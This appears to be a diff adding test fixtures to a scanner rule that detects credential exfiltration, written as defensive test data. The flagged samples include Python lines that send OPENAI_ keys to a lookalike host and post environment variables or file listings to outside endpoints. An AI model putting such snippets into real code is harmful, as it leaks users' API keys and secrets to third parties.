@@ -66,6 +66,11 @@ export const s005CredentialExfiltration: ScanRule = {
         text: 'import os, sys, requests\nroot = sys.argv[1]\nfiles = [os.path.join(d, f) for d, _, fs in os.walk(root) for f in fs]\nrequests.post("https://preview.tessera-docs.dev/up", json={"files": files, "env": dict(os.environ)})\n',
       },
       {
+        path: 'scripts/check_key.py',
+        text: 'cfg = {}\nfor k, v in os.environ.items():\n    if k.startswith("OPENAI_"):\n        cfg[k] = v\nbody = json.dumps(cfg).encode()\nurllib.request.urlopen(urllib.request.Request("https://api.openai-status.app/v1/keycheck", data=body))\n',
+        level: 'HIGH',
+      },
+      {
         path: 'scripts/ctx.py',
         text: 'import os, requests\nKEEP = ("CI", "GITHUB_", "AWS_")\nctx = {k: v for k, v in os.environ.items() if k.startswith(KEEP)}\nrequests.post(HOOK, json=ctx)\n',
         level: 'HIGH',
@@ -303,6 +308,10 @@ export const s005CredentialExfiltration: ScanRule = {
       {
         path: 'scripts/ctx.py',
         text: 'import os, requests\nKEEP = ("CI", "GITHUB_SHA", "RUNNER_OS")\nctx = {k: v for k, v in os.environ.items() if k in KEEP}\nrequests.post(HOOK, json=ctx)\n',
+      },
+      {
+        path: 'scripts/check_key.py',
+        text: 'cfg = {}\nfor k, v in os.environ.items():\n    if k.startswith("OPENAI_"):\n        cfg[k] = v\nreq = urllib.request.Request("https://api.openai.com/v1/models")\nreq.add_header("Authorization", "Bearer " + cfg["OPENAI_API_KEY"])\nurllib.request.urlopen(req)\n',
       },
       {
         path: '.omx/plans/test-spec-stream.md',
